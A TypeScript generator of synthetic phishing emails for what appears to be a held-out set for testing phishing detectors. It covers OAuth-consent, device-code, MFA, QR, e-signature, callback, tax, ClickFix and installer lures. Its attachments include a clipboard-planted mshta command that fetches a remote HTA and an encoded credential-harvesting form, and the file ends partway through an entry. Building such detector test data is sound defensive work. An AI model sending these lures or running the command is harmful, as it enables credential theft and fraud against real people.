// The fifth unseen phishing set: credential phishing, lures and malware delivery after 2022–2026
// campaigns, written from published descriptions of them without the analysers in sight, every message
// filled from the seed; the business-email compromise and conversation fraud of the set are in
// unseen-5-bec.ts and join these here. Some bodies go out base64 or quoted-printable. Every attacker's
// domain is reserved or made up; a real service's domain appears only where the attack abuses that
// service (its consent or device-code flow, its own notification mail); attachments are inert.
import type { SeededRandom } from './generate.js';
import { qrJpeg, qrPng, zipOf } from './payloads.js';
import { page, type UnseenMessage } from './unseen-3.js';
import { authResults, domainOf, type EncodedEntry, fillEncoded, uuid } from './unseen-4.js';
import { BEC_ENTRIES } from './unseen-5-bec.js';
import { attach, combosquat, continental, pdfAttachment, textQr } from './unseen-5-parts.js';
import { invitation, protectedZip } from './unseen-payloads.js';

const LURE_ENTRIES: EncodedEntry[] = [
  {
    kind: 'oauth-consent',
    template: 'partner-tenant-teams-app',
    write: (s) => {
      const partner = s.vendor.domain;
      const consent =
        `https://login.microsoftonline.com/organizations/oauth2/v2.0/authorize?client_id=${uuid(s)}` +
        `&response_type=code&redirect_uri=https%3A%2F%2F${s.host('teams', 'files')}%2Fsignin-oidc` +
        '&scope=offline_access%20Mail.Read%20Mail.Send%20Contacts.Read%20Files.Read.All&prompt=consent';
      return {
        headers: s.headers(s.stranger.name, s.stranger.email, [
          authResults(partner, ['pass', 'pass', 'pass']),
        ]),
        subject: `${s.vendor.name} – project files for ${s.company}`,
        html: page(
          [
            `Hi ${s.victim.first},`,
            `We moved our shared workspace to a Teams app so both companies can work on the same files. Open it with your ${s.company} account; the first time, Microsoft asks you to allow the app, just click Accept.`,
            `Thanks,<br>${s.stranger.name}<br>${s.vendor.name}`,
          ],
          ['Open shared workspace', consent],
        ),
      };
    },
  },
  {
    kind: 'oauth-consent',
    template: 'developer-security-alert-app',
    write: (s) => {
      const login = s.pick(['dev-ops', 'platform', 'backend', 'infra']);
      const consent = `https://github.com/login/oauth/authorize?client_id=Ov23li${s.token(14)}&scope=repo,workflow,read:org&redirect_uri=https://${s.host('gitsecurity', 'app')}/callback`;
      return {
        headers: s.headers('GitHub', 'notifications@github.com', [
          authResults('github.com', ['pass', 'pass', 'pass']),
          `Reply-To: corp-${login}/${login}-service <reply+${s.hex(40).toUpperCase()}@reply.github.com>`,
        ]),
        subject: `[corp-${login}/${login}-service] Security Alert: Unusual Access Attempt (Issue #${1 + s.below(400)})`,
        text: [
          'Hey there!',
          '',
          `We have detected an unusual access attempt to your account. Location: ${s.pick(['Reykjavik, Iceland', 'Almaty, Kazakhstan', 'Lagos, Nigeria'])}, IP: 198.51.100.${s.below(250)}.`,
          '',
          'If this was not you, reset your session and review your security settings through the GitHub Security app:',
          consent,
          '',
          'Thanks,',
          'The GitHub Security Team',
          '',
          '—',
          'Reply to this email directly, view it on GitHub, or unsubscribe.',
          'You are receiving this because you were mentioned.',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'device-code',
    template: 'event-registration-device-code',
    transfer: 'quoted-printable',
    write: (s) => {
      const code = `${s.token(4)}-${s.token(4)}`.toUpperCase();
      const event = s.pick([
        'European Supply Chain Summit',
        'Regional Healthcare Leaders Forum',
        'Digital Finance Roundtable',
      ]);
      return {
        headers: s.headers(`${event} – Speaker Office`, `speakers@${s.host('summit', 'events')}`),
        subject: `${event}: confirm your speaker slot`,
        html: page(
          [
            `Dear ${s.victim.first} ${s.victim.last},`,
            `You have been shortlisted as a speaker at the ${event}. The organising committee uses a secure Microsoft Teams channel for speaker briefings.`,
            'To confirm your slot and join the channel:',
            `• visit <a href="https://microsoft.com/devicelogin">microsoft.com/devicelogin</a><br>• enter the access code <b>${code}</b><br>• sign in with your company account`,
            'The access code is personal and valid for 15 minutes. Unconfirmed slots are offered to the next speaker.',
            'Warm regards,<br>Speaker Office',
          ],
          undefined,
          `${event} · Secretariat`,
        ),
      };
    },
  },
  {
    kind: 'mfa-reset',
    template: 'helpdesk-reset-reply-with-code',
    write: (s) => {
      const from = `servicedesk@${combosquat(s, 'corp.example')}`;
      return {
        headers: s.headers(`${s.company} Service Desk`, from, [
          authResults(domainOf(from), ['pass', 'pass', 'pass']),
        ]),
        subject: `INC${s.digits(7)} – your MFA reset`,
        text: [
          `Hi ${s.victim.first},`,
          '',
          `As requested by your manager ${s.boss.name}, we are resetting the multi-factor authentication on your account today.`,
          'In the next few minutes you will receive a text message with a 6-digit verification code. Reply to this',
          'email with that code so we can link your new device. Do not share it with anyone else.',
          '',
          'If you do not reply within 30 minutes the reset is cancelled and your sign-in will be blocked until it is redone.',
          '',
          'Service Desk',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'mfa-fatigue',
    template: 'approve-to-stop-prompts',
    write: (s) => ({
      headers: s.headers(`IT Helpdesk – ${s.company}`, s.freemail(s.stranger)),
      subject: 'RE: repeated sign-in prompts on your phone',
      text: [
        `Hi ${s.victim.first},`,
        '',
        "We can see your account is stuck in a sign-in loop after last night's server sync; that is why your phone",
        'keeps showing approval requests. Approve the next request once and the loop stops. If the app asks you',
        'to type a number, reply to this email and we will send you the number to enter.',
        '',
        'IT Helpdesk',
      ].join('\n'),
    }),
  },
  {
    kind: 'voicemail',
    template: 'voicemail-wav-html-page',
    transfer: 'quoted-printable',
    write: (s) => {
      const landing = `https://${s.host('voicemail', 'listen')}/${s.token(8)}/`;
      const caller = s.phone();
      return {
        headers: s.headers('Voicemail', `vm-notify@${s.borrowed()}`),
        subject: `Voicemail from ${caller} – ${s.victim.first}, 1 new message`,
        text: [
          `Caller: ${caller}`,
          `Received: ${s.pick(['Today', 'Yesterday'])} ${8 + s.below(10)}:${10 + s.below(50)}`,
          `Duration: 00:${10 + s.below(49)}`,
          '',
          'Open the attached Voice_Message.wav.html in your browser to play it.',
        ].join('\n'),
        parts: [
          attach(
            'text/html',
            `Voice_Message_${s.digits(5)}.wav.html`,
            `<!DOCTYPE html><html><body onload="document.forms[0].submit()"><p>Preparing audio…</p><form method="GET" action="${landing}"><input type="hidden" name="u" value="${s.victim.email}"></form></body></html>`,
          ),
        ],
      };
    },
  },
  {
    kind: 'voicemail',
    template: 'missed-call-pdf-qr',
    write: async (s) => {
      const url = `https://${s.host('teams', 'voice')}/m/${s.token(10)}`;
      return {
        headers: s.headers('Microsoft Teams', `noreply@${s.host('teams', 'notify')}`),
        subject: `You missed a call from ${s.boss.name}`,
        text: `${s.boss.name} tried to reach you and left a voice message (0:${20 + s.below(30)}). The recording is in the attached PDF; scan the code with your phone to play it.`,
        parts: [
          pdfAttachment(
            `Teams_Voicemail_${s.digits(6)}.pdf`,
            ['Microsoft Teams', `Missed call: ${s.boss.name}`, 'Scan to listen with your mobile device'],
            { jpeg: await qrJpeg(url) },
          ),
        ],
      };
    },
  },
  {
    kind: 'qr-code',
    template: 'text-block-qr-mfa',
    write: (s) => {
      const url = `https://${s.host('mfa', 'enrol')}/r/${s.token(8)}`;
      return {
        headers: s.headers(`${s.company} IT Security`, `security@${combosquat(s, 'corp.example')}`),
        subject: `Action required: re-register your authenticator by ${s.pick(['Friday', 'Monday', 'end of day'])}`,
        text: [
          `Dear ${s.victim.first},`,
          '',
          'Our multi-factor authentication policy changes this week. Scan the code below with your phone camera',
          'and follow the steps to keep access to email and Teams.',
          '',
          textQr(url),
          '',
          'Accounts not re-registered will be signed out.',
          'IT Security',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'qr-code',
    template: 'parking-penalty-qr',
    transfer: 'base64',
    write: async (s) => {
      const url = `https://${s.host('parking', 'pay')}/pcn/${s.digits(8)}`;
      const [subject, lines] = s.pick([
        [
          'Penalty charge notice – unpaid parking',
          [
            `Vehicle registered to ${s.victim.name} was parked without a valid session.`,
            'Pay £60 within 14 days (reduced to £35 if paid within 48 hours) by scanning the QR code.',
            'Unpaid notices are passed to an enforcement agent.',
          ],
        ],
        [
          'Avis de contravention – stationnement impayé',
          [
            `Le véhicule de ${s.victim.name} a stationné sans paiement.`,
            "Réglez l'amende de 35 € sous 48 heures en scannant le code QR, sinon elle sera majorée à 135 €.",
            'Service des amendes de stationnement',
          ],
        ],
      ] as const);
      return {
        headers: s.headers('Parking Enforcement', `notices@${s.host('parking', 'city')}`),
        subject,
        html: `${page([...lines])}<p><img src="cid:pcn.png" width="200" alt="QR"></p>`,
        parts: [{ type: 'image/png', name: 'pcn.png', content: await qrPng(url), inline: true }],
      };
    },
  },
  {
    kind: 'e-signature',
    template: 'sign-service-compromised-sender',
    write: (s) => {
      const site = s.borrowed();
      return {
        headers: s.headers(`${s.stranger.name} via Adobe Acrobat Sign`, `office@${site}`, [
          authResults(site, ['pass', 'pass', 'pass']),
        ]),
        subject: `${s.stranger.name} requests your signature on "${s.company} Services Agreement ${s.digits(4)}"`,
        html: page(
          [
            `${s.stranger.name} has sent you an agreement to review and sign.`,
            `<b>${s.company} Services Agreement ${s.digits(4)}</b>`,
            'Please review and sign by the end of the week.',
          ],
          ['Review and sign', `https://${site}/.well-known/sign/${s.token(12)}/?email=${s.victim.email}`],
          'Powered by Adobe Acrobat Sign. To ensure you continue receiving our emails, add the sender to your address book.',
        ),
      };
    },
  },
  {
    kind: 'e-signature',
    template: 'completed-envelope-htm',
    transfer: 'base64',
    write: (s) => ({
      headers: s.headers('DocuSign Completed', `dse@${combosquat(s, 'docusign.net')}`),
      subject: `Completed: ${s.company} – Bonus Allocation 2027.pdf`,
      html: page([
        'All parties have completed the envelope.',
        `Envelope ID: ${uuid(s).toUpperCase()}`,
        'A copy of the completed document is attached. Open it to view.',
      ]),
      parts: [
        attach(
          'text/html',
          'Completed_Document.shtml',
          `<html><head><title>DocuSign</title></head><body><div id="d"></div><script>document.getElementById("d").innerHTML=decodeURIComponent("%3Cform%20action%3D%22https%3A%2F%2F${s.host('docs', 'sign')}%2Fp.php%22%20method%3D%22post%22%3E%3Cinput%20name%3D%22e%22%20value%3D%22${s.victim.email}%22%3E%3Cinput%20type%3D%22password%22%20name%3D%22p%22%3E%3Cbutton%3EView%20document%3C%2Fbutton%3E%3C%2Fform%3E");</script></body></html>`,
        ),
      ],
    }),
  },
  {
    kind: 'shared-file',
    template: 'file-transfer-freemail',
    write: (s) => {
      const sender = s.freemail(s.stranger);
      return {
        headers: s.headers(s.stranger.name, sender, [
          authResults(domainOf(sender), ['pass', 'pass', 'pass']),
        ]),
        subject: `${s.stranger.name} sent you files via WeTransfer`,
        html: page(
          [
            `<b>${s.stranger.name}</b> sent you ${2 + s.below(4)} files (${(1 + s.below(80)) / 10} MB)`,
            `<i>"${s.pick(['Revised quotation and drawings, please check', 'Outstanding statements as discussed', 'Photos from the site visit'])}"</i>`,
            `Files will be deleted on ${s.pick(['Friday', 'Saturday', 'Sunday'])}.`,
          ],
          ['Download your files', `https://${s.host('wetransfer', 'download')}/downloads/${s.hex(32)}`],
          'To make sure our emails arrive, please add noreply@wetransfer.com to your contacts.',
        ),
      };
    },
  },
  {
    kind: 'shared-file',
    template: 'folder-share-dutch',
    transfer: 'quoted-printable',
    write: (s) => ({
      headers: s.headers(`${s.stranger.name} via OneDrive`, `no-reply@${combosquat(s, s.vendor.domain)}`),
      subject: `${s.stranger.name} heeft de map "Offertes ${s.company}" met u gedeeld`,
      html: page(
        [
          `${s.stranger.name} heeft de map <b>Offertes ${s.company}</b> met u gedeeld.`,
          'De map bevat 3 bestanden. Meld u aan met uw zakelijke e-mailadres om de bestanden te bekijken.',
          'Deze koppeling werkt alleen voor de directe ontvangers van dit bericht.',
        ],
        ['Openen', `https://${s.host('onedrive', 'share')}/:f:/g/${s.token(22)}`],
        'Privacyverklaring van Microsoft',
      ),
    }),
  },
  {
    kind: 'service-invoice-callback',
    template: 'payment-service-invoice-note',
    write: (s) => {
      const amount = s.money(399, 899);
      const phone = s.phone();
      return {
        headers: s.headers('service@paypal.com', 'service@paypal.com', [
          authResults('paypal.com', ['pass', 'pass', 'pass']),
        ]),
        subject: `You have a new invoice from ${s.pick(['Billing Department', 'Norton Support Team', 'Geek Tech Services'])}`,
        html: page(
          [
            `Invoice amount: $${amount} USD`,
            `Note from seller: Your account has been charged $${amount} for ${s.pick(['BTC purchase', 'Annual Antivirus Protection', 'Premium Device Care'])}. If you did not authorise this transaction, call our support line immediately at ${phone} to cancel and get a refund within 24 hours.`,
            `Invoice number: ${s.digits(4)}`,
          ],
          ['View and Pay Invoice', `https://www.paypal.com/invoice/p/#${s.token(16).toUpperCase()}`],
          'PayPal is committed to preventing fraudulent emails.',
        ),
      };
    },
  },
  {
    kind: 'callback',
    template: 'security-suite-renewal-base64',
    transfer: 'base64',
    write: (s) => {
      const product = s.pick([
        'Total Security 360',
        'McAfee LiveSafe',
        'Norton 360 Deluxe',
        'Geek Squad Protection',
      ]);
      return {
        headers: s.headers(product, s.freemail(s.stranger)),
        subject: `Order #${s.digits(9)} processed – thank you for renewing`,
        html: page(
          [
            'Dear Customer,',
            `Your ${product} subscription has been renewed automatically and $${s.money(299, 549)} will be debited from your account within 24 hours.`,
            `<table border="1" cellpadding="4"><tr><td>Product</td><td>${product}</td></tr><tr><td>Term</td><td>3 years</td></tr><tr><td>Devices</td><td>5</td></tr></table>`,
            `If you wish to cancel and request a refund, call our billing desk at <b>${s.phone()}</b> (Mon–Sat).`,
          ],
          undefined,
          'This is an automated receipt.',
        ),
      };
    },
  },
  {
    kind: 'tax',
    template: 'hmrc-refund-qp',
    transfer: 'quoted-printable',
    write: (s) => {
      const refund = s.money(300, 900);
      return {
        headers: s.headers('HMRC', `refunds@${s.host('hmrc', 'gov-uk')}`),
        subject: `Tax refund notification – £${refund}`,
        html: page(
          [
            `Dear ${s.victim.first} ${s.victim.last},`,
            `After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of <b>£${refund}</b>.`,
            'Please submit the tax refund request and allow us 3–5 business days to process it. A refund can be delayed for a variety of reasons, for example submitting invalid records or applying after the deadline.',
          ],
          ['Access your refund', `https://${s.host('gov', 'refund')}/hmrc/claim?ref=${s.digits(10)}`],
          'HM Revenue & Customs',
        ),
      };
    },
  },
  {
    kind: 'tax',
    template: 'steuererstattung-de',
    transfer: 'base64',
    write: (s) => ({
      headers: s.headers('Bundeszentralamt für Steuern', `noreply@${s.host('bzst', 'online')}`),
      subject: 'Ihre Steuerrückerstattung ist bereit',
      text: [
        `Sehr geehrte/r ${s.victim.first} ${s.victim.last},`,
        '',
        `nach Prüfung Ihrer Steuererklärung steht Ihnen eine Erstattung von ${continental(s.money(200, 1_200))} EUR zu.`,
        'Um die Auszahlung zu erhalten, bestätigen Sie bitte innerhalb von 72 Stunden Ihre Bankverbindung:',
        '',
        `https://${s.host('elster', 'erstattung')}/antrag/${s.token(10)}`,
        '',
        'Nicht bestätigte Erstattungen verfallen.',
        '',
        'Mit freundlichen Grüßen',
        'Bundeszentralamt für Steuern',
      ].join('\n'),
    }),
  },
  {
    kind: 'delivery-fee',
    template: 'customs-duty-italian',
    transfer: 'quoted-printable',
    write: (s) => ({
      headers: s.headers('Poste Italiane', `avvisi@${s.host('poste', 'spedizioni')}`),
      subject: `Il tuo pacco è in giacenza – codice ${s.token(2).toUpperCase()}${s.digits(9)}IT`,
      html: page(
        [
          `Gentile ${s.victim.first},`,
          'la tua spedizione internazionale è ferma in dogana. Per lo sdoganamento è richiesto il pagamento dei diritti doganali di <b>2,99 €</b>.',
          'Se il pagamento non viene effettuato entro 48 ore, il pacco sarà restituito al mittente.',
        ],
        ['Paga ora', `https://${s.host('poste', 'dogana')}/pagamento?id=${s.digits(12)}`],
        'Poste Italiane S.p.A. – Servizio clienti',
      ),
    }),
  },
  {
    kind: 'delivery-fee',
    template: 'address-incomplete-shortlink',
    write: (s) => ({
      headers: s.headers('USPS Tracking', `tracking@${s.host('usps', 'delivery')}`),
      subject: 'Your package could not be delivered: incomplete address',
      text: [
        `USPS: Your package ${s.digits(22)} is on hold at the local facility because the street number is missing.`,
        '',
        `Update your address within 12 hours: https://${s.pick(['tinyurl.example', 's.test', 'qrco.example'])}/${s.token(6)}`,
        '',
        'The package will be returned to sender if no update is received. Thank you.',
      ].join('\n'),
    }),
  },
  {
    kind: 'toll-fine',
    template: 'unpaid-toll-balance',
    write: (s) => ({
      headers: s.headers(
        s.pick(['E-ZPass', 'FasTrak', 'SunPass', 'The Toll Roads']),
        `billing@${s.host('toll', 'services')}`,
      ),
      subject: 'Final notice: unpaid toll balance',
      html: page(
        [
          `We have noticed an outstanding toll amount of <b>$${(3 + s.below(12)).toString()}.${s.digits(2)}</b> on your account.`,
          'To avoid a late fee of $50.00 and the suspension of your vehicle registration, please settle the balance by today.',
        ],
        ['Pay now', `https://${s.host('ezpass', 'pay')}/us/${s.token(8)}`],
        'Toll Services Customer Center',
      ),
    }),
  },
  {
    kind: 'travel-booking',
    template: 'hotel-guest-complaint-clickfix',
    write: (s) => {
      const site = s.borrowed();
      return {
        headers: s.headers(`Guest ${s.stranger.name} via Booking.com`, `${s.token(8)}@${site}`, [
          authResults(site, ['pass', 'none', 'none']),
        ]),
        subject: `Negative review about your property – reservation ${s.digits(10)}`,
        html: page(
          [
            'Hello,',
            `A guest has left a complaint about your property (reservation ${s.digits(10)}) and asked us to review it before it is published.`,
            "Please read the guest's message and reply within 24 hours; properties that do not reply may have their ranking lowered.",
          ],
          ['View the complaint', `https://${s.host('booking', 'extranet')}/hotel/review/${s.digits(9)}`],
          'Booking.com Customer Service',
        ),
      };
    },
  },
  {
    kind: 'travel-booking',
    template: 'flight-refund-pdf-link',
    write: (s) => {
      const link = `https://${s.host('airline', 'refunds')}/claim/${s.token(10)}`;
      return {
        headers: s.headers('Refund Department', `refunds@${s.host('airways', 'care')}`),
        subject: `Flight cancellation compensation – booking ${s.token(6).toUpperCase()}`,
        text: `Dear passenger,\n\nYour flight was cancelled and you are entitled to €${250 + 50 * s.below(9)} compensation. The claim form is attached; open it and follow the link to enter your bank card for the payment.\n\nCustomer Relations`,
        parts: [
          pdfAttachment(
            `Refund_Claim_${s.digits(6)}.pdf`,
            ['Compensation claim', `Passenger: ${s.victim.name}`, 'Click here to submit your claim'],
            { link },
          ),
        ],
      };
    },
  },
  {
    kind: 'clickfix',
    template: 'captcha-run-dialog',
    write: (s) => {
      const command = `mshta https://${s.host('cdn', 'verify')}/${s.token(6)}.hta # I am not a robot - reCAPTCHA ID ${s.digits(4)}`;
      const invoice = s.digits(6);
      return {
        headers: s.headers(`${s.vendor.name} Accounts`, `accounts@${combosquat(s, s.vendor.domain)}`),
        subject: `Invoice ${invoice} – secure viewer`,
        text: `Hello,\n\nPlease find the invoice in the attached secure viewer.\n\nRegards,\n${s.vendor.name} Accounts`,
        parts: [
          attach(
            'text/html',
            `Invoice_${invoice}.html`,
            `<html><body><h3>Verify you are human</h3><ol><li>Press Windows + R</li><li>Press Ctrl + V</li><li>Press Enter</li></ol><p>This completes the verification and opens your document.</p><script>navigator.clipboard.writeText(${JSON.stringify(command)});</script></body></html>`,
          ),
        ],
      };
    },
  },
  {
    kind: 'clickfix',
    template: 'document-error-fix-powershell',
    transfer: 'quoted-printable',
    write: (s) => ({
      headers: s.headers(s.stranger.name, s.stranger.email, [
        authResults(s.vendor.domain, ['pass', 'pass', 'pass']),
      ]),
      subject: `Updated statement – ${s.vendor.name}`,
      html: page([
        `Hi ${s.victim.first},`,
        'The statement does not display in some browsers. If you see "Word Online extension not installed", click <b>How to fix</b>, then copy the command it shows into PowerShell (Windows + X, then I) and press Enter.',
        `<a href="https://${s.host('docs', 'viewer')}/s/${s.token(9)}">Open statement</a>`,
        `Thanks,<br>${s.stranger.name}`,
      ]),
    }),
  },
  {
    kind: 'account-suspension',
    template: 'page-copyright-violation',
    write: (s) => {
      const site = s.borrowed();
      return {
        headers: s.headers('Meta for Business', `noreply@${site}`, [
          authResults(site, ['pass', 'pass', 'none']),
        ]),
        subject: `Your page ${s.company} has been scheduled for permanent deletion`,
        html: page(
          [
            `We received a report that your page ${s.company} infringes the copyright of a third party (case #${s.digits(12)}).`,
            'As a result, your page is scheduled for deletion within 24 hours. If you believe this is a mistake, you may submit an appeal.',
          ],
          ['Appeal now', `https://${s.host('meta', 'appeal')}/case/${s.digits(12)}`],
          'Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025',
        ),
      };
    },
  },
  {
    kind: 'account-suspension',
    template: 'domain-expiry-registrar',
    write: (s) => ({
      headers: s.headers('Domain Services', `renewals@${s.host('domain', 'registry')}`),
      subject: 'corp.example expires in 2 days – renew to avoid loss of email',
      html: page(
        [
          'Domain Name: <b>corp.example</b>',
          `Expiration date: ${s.pick(['Nov 4, 2026', 'Nov 5, 2026'])}`,
          'Your domain and the email and website that use it will stop working when it expires. The renewal fee is $' +
            `${(18 + s.below(30)).toString()}.99 per year.`,
        ],
        ['Renew now', `https://${s.host('domain', 'renew')}/checkout?d=corp.example`],
        'You are receiving this notice as the registrant contact of the domain.',
      ),
    }),
  },
  {
    kind: 'hr-benefits',
    template: 'performance-review-lookalike',
    write: (s) => {
      const from = `hr@${combosquat(s, 'corp.example')}`;
      return {
        headers: s.headers(`${s.company} People Team`, from, [
          authResults(domainOf(from), ['pass', 'pass', 'pass']),
        ]),
        subject: `${s.victim.first}, your ${s.pick(['mid-year', 'annual'])} performance review is ready`,
        html: page(
          [
            `Hi ${s.victim.first},`,
            `${s.boss.name} has completed your performance review, including the salary adjustment effective next month.`,
            'Please read and acknowledge it by Friday. Sign in with your company account to view it.',
          ],
          ['View my review', `https://${domainOf(from)}/reviews/${s.token(12)}`],
          `${s.company} People Team`,
        ),
      };
    },
  },
  {
    kind: 'hr-benefits',
    template: 'benefits-portal-spanish',
    transfer: 'quoted-printable',
    write: (s) => ({
      headers: s.headers('Recursos Humanos', `rrhh@${s.host('beneficios', 'empleados')}`),
      subject: 'Actualice sus beneficios antes del cierre del periodo',
      text: [
        `Hola ${s.victim.first}:`,
        '',
        'El periodo de inscripción de beneficios para el próximo año cierra este viernes. Si no confirma su',
        'selección, perderá la cobertura médica y dental para su familia.',
        '',
        `Acceda al portal con sus credenciales corporativas: https://${s.host('beneficios')}/login?e=${s.victim.email}`,
        '',
        'Un saludo,',
        'Recursos Humanos',
      ].join('\n'),
    }),
  },
  {
    kind: 'legal-threat',
    template: 'copyright-claim-zip',
    write: (s) => ({
      headers: s.headers(`${s.stranger.name}, Legal Counsel`, s.freemail(s.stranger)),
      subject: `Copyright infringement notice – ${s.company}`,
      text: [
        'Good afternoon,',
        '',
        `I represent a photographer whose images are used on the ${s.company} website without a licence. The images`,
        'and the URLs where they appear are listed in the attached archive (password: 2026).',
        '',
        'Unless the images are removed and compensation is agreed within 5 working days, we will file a claim.',
        '',
        s.stranger.name,
      ].join('\n'),
      parts: [
        attach(
          'application/zip',
          `Evidence_${s.digits(4)}.zip`,
          protectedZip('Images_and_URLs.pdf.lnk', s.below(1000)),
        ),
      ],
    }),
  },
  {
    kind: 'legal-threat',
    template: 'court-summons-spanish-pdf',
    transfer: 'base64',
    write: (s) => ({
      headers: s.headers(
        'Juzgado de Primera Instancia',
        `notificaciones@${s.host('justicia', 'citaciones')}`,
      ),
      subject: `Citación judicial – Procedimiento ${s.digits(4)}/2026`,
      text: `Se le notifica la apertura de un procedimiento contra usted. Consulte la citación adjunta y descargue el expediente completo antes de la fecha de comparecencia.\n\nSecretaría judicial`,
      parts: [
        pdfAttachment(
          `Citacion_${s.digits(6)}.pdf`,
          ['CITACIÓN JUDICIAL', `Demandado: ${s.victim.name}`, 'Descargar expediente completo'],
          { link: `https://${s.host('expediente')}/descarga/${s.token(8)}.zip` },
        ),
      ],
    }),
  },
  {
    kind: 'subpoena-notice',
    template: 'service-signed-subpoena',
    write: (s) => ({
      headers: s.headers('Google', 'no-reply@accounts.google.com', [
        authResults('accounts.google.com', ['pass', 'pass', 'pass']),
        `To: me@${s.host('google', 'legal')}`,
      ]),
      subject: 'Security alert',
      text: [
        'A subpoena was served on Google LLC requiring the production of the content of your Google Account.',
        `Case number: ${s.digits(7)}`,
        '',
        'To examine the case materials or to submit a protest, visit:',
        `https://sites.google.com/view/${s.token(10)}-legal/case`,
        '',
        'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043',
      ].join('\n'),
    }),
  },
  {
    kind: 'remote-access-lure',
    template: 'benefit-statement-rmm',
    write: (s) => ({
      headers: s.headers('Social Security Administration', `statement@${s.host('ssa', 'gov-statement')}`),
      subject: 'Your Social Security Statement is ready',
      html: page(
        [
          `Dear ${s.victim.first},`,
          'Your electronic Social Security Statement for this year is now available. Download it to review your earnings record and estimated benefits.',
          'The statement opens with the secure document viewer for Windows.',
        ],
        [
          'Download statement',
          `https://${s.host('ssa', 'docs')}/SSA_Statement_${s.digits(6)}.ClientSetup.exe`,
        ],
        'Social Security Administration · This is an automated message.',
      ),
    }),
  },
  {
    kind: 'remote-access-lure',
    template: 'meeting-invite-msi',
    transfer: 'quoted-printable',
    write: (s) => ({
      headers: s.headers(s.stranger.name, s.stranger.email, [
        authResults(s.vendor.domain, ['pass', 'pass', 'pass']),
      ]),
      subject: `Invitation: ${s.vendor.name} / ${s.company} quarterly review`,
      html: page(
        [
          `Hi ${s.victim.first},`,
          'You are invited to a Zoom meeting. Our company uses the updated Zoom Workplace client; if you do not have it, the invite installs it first.',
          `Topic: ${s.vendor.name} / ${s.company} quarterly review<br>Time: ${s.pick(['Tuesday', 'Wednesday'])} ${9 + s.below(8)}:00`,
        ],
        ['Join meeting', `https://${s.host('zoom', 'meet')}/j/${s.digits(11)}/ZoomWorkplace_Setup.msi`],
      ),
    }),
  },
  {
    kind: 'developer-lure',
    template: 'coding-assessment-repo',
    write: (s) => ({
      headers: s.headers(`${s.stranger.name} | Talent Partner`, s.freemail(s.stranger)),
      subject: `Senior engineer role – technical assessment (${s.pick(['Web3 exchange', 'fintech startup', 'DeFi platform'])})`,
      text: [
        `Hi ${s.victim.first},`,
        '',
        'Thanks for your interest; the hiring manager liked your profile. The next step is a short technical task:',
        `clone the project from https://${s.host('git', 'code')}/${s.token(8)}/trading-dashboard, run "npm install" and`,
        '"npm start", then fix the bug described in the README. Please finish it before our call tomorrow.',
        '',
        'The compensation is $180-220k plus tokens, fully remote.',
        '',
        s.stranger.name,
      ].join('\n'),
    }),
  },
  {
    kind: 'recruitment',
    template: 'job-offer-lnk-in-zip',
    write: (s) => ({
      headers: s.headers(
        `${s.stranger.name} – ${s.pick(['Talent Acquisition', 'Executive Search'])}`,
        `careers@${s.host('talent', 'hire')}`,
      ),
      subject: `Offer details – ${s.pick(['Head of Finance', 'Marketing Director', 'Operations Manager'])}`,
      text: `Dear ${s.victim.first},\n\nFollowing our conversation, please find the job description and salary package in the attached archive.\n\nBest regards,\n${s.stranger.name}`,
      parts: [attach('application/zip', 'Job_Description_and_Salary.zip', zipOf('Salary_Package.pdf.lnk'))],
    }),
  },
  {
    kind: 'crypto',
    template: 'hardware-wallet-recovery-phrase',
    transfer: 'base64',
    write: (s) => ({
      headers: s.headers('Ledger', `security@${s.host('ledger', 'support')}`),
      subject: 'Important: a security incident affecting your Ledger device',
      html: page(
        [
          `Dear ${s.victim.first},`,
          'Following a data breach at one of our partners, your device may be at risk. To protect your assets, migrate to a new secure address by verifying your 24-word recovery phrase.',
          'Funds on unverified devices cannot be protected after 48 hours.',
        ],
        ['Secure my assets', `https://${s.host('ledger', 'verify')}/recovery`],
        'Ledger SAS, 1 rue du Mail, 75002 Paris',
      ),
    }),
  },
  {
    kind: 'crypto',
    template: 'exchange-withdrawal-cancel',
    write: (s) => {
      const amount = (0.2 + s.below(30) / 10).toFixed(2);
      return {
        headers: s.headers('Coinbase', `no-reply@${s.host('coinbase', 'alerts')}`),
        subject: `Withdrawal request: ${amount} BTC`,
        text: [
          `A withdrawal of ${amount} BTC to ${s.btc()} was requested from your account.`,
          '',
          `If you did not make this request, call the Coinbase recovery team at ${s.phone()} immediately or cancel here:`,
          `https://${s.host('coinbase', 'cancel')}/withdrawal/${s.hex(16)}`,
        ].join('\n'),
      };
    },
  },
  {
    kind: 'subscription-billing',
    template: 'ai-subscription-payment-failed',
    write: (s) => ({
      headers: s.headers('ChatGPT', `billing@${s.host('openai', 'billing')}`),
      subject: 'Action needed: your ChatGPT Plus payment failed',
      html: page(
        [
          `Hi ${s.victim.first},`,
          "We couldn't process the payment for your subscription. Update your payment details to keep using ChatGPT Plus; otherwise your plan ends today.",
        ],
        ['Update payment method', `https://${s.host('chatgpt', 'billing')}/payment?session=${s.token(20)}`],
        'OpenAI · 1455 3rd Street · San Francisco, CA 94158',
      ),
    }),
  },
  {
    kind: 'subscription-billing',
    template: 'streaming-card-expired-portuguese',
    transfer: 'quoted-printable',
    write: (s) => ({
      headers: s.headers('Netflix', `info@${s.host('netflix', 'conta')}`),
      subject: 'Sua assinatura foi suspensa',
      html: page(
        [
          `Olá ${s.victim.first},`,
          'Não conseguimos processar o pagamento da sua próxima fatura. A sua assinatura foi suspensa temporariamente.',
          'Atualize os dados do seu cartão nas próximas 48 horas para continuar assistindo.',
        ],
        ['Atualizar pagamento', `https://${s.host('netflix', 'pagamento')}/br/${s.token(10)}`],
        'Netflix Entretenimento Brasil Ltda.',
      ),
    }),
  },
  {
    kind: 'html-attachment',
    template: 'remittance-local-login-form',
    write: (s) => {
      const payment = s.digits(7);
      return {
        headers: s.headers(`${s.vendor.name} Payments`, `payments@${combosquat(s, s.vendor.domain)}`),
        subject: `Remittance advice – payment ${payment}`,
        text: 'Please find attached the remittance advice for the payment released today.',
        parts: [
          attach(
            'text/html',
            `Remittance_${payment}.htm`,
